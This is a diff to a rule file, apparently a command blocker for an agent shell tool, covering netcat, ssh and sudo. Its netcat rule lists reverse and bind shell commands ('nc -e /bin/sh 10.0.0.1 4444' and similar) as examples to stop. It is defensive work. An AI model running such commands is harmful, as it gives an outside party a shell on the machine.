@@ -10,7 +10,7 @@ export const networkRules: RuleFamily = {
       why: 'it hands a shell of this machine to whoever connects',
       instead: 'test a port with "nc -z"',
       passes: 'nc -z localhost 80',
-      stops: ['nc -e /bin/sh 10.0.0.1 4444', 'ncat --exec /bin/bash 10.0.0.1 4444', 'nc -lvpe 4444 /bin/sh'],
+      stops: ['nc -e /bin/sh 10.0.0.1 4444', 'ncat --exec /bin/bash 10.0.0.1 4444', 'nc -lvp 4444 -e /bin/sh'],
     },
   ],
   socat: [
@@ -53,7 +53,7 @@ export const networkRules: RuleFamily = {
     {
       id: 'remote-command',
       level: 'strict',
-      runs: ['** * *', '** * $'],
+      runs: ['!-V !-G !-Q'],
       why: 'nobody checks what runs on the other machine',
       instead: 'show the command and ask the user to run it there',
       passes: 'ssh -V',
@@ -64,7 +64,7 @@ export const networkRules: RuleFamily = {
     {
       id: 'sudo',
       level: 'strict',
-      runs: ['* !-k !-K !-v !-l'],
+      runs: ['!-k !-K !-v !-l'],
       why: 'it runs with the rights of another user',
       instead: 'do it without, or ask the user to',
       passes: 'id -u',
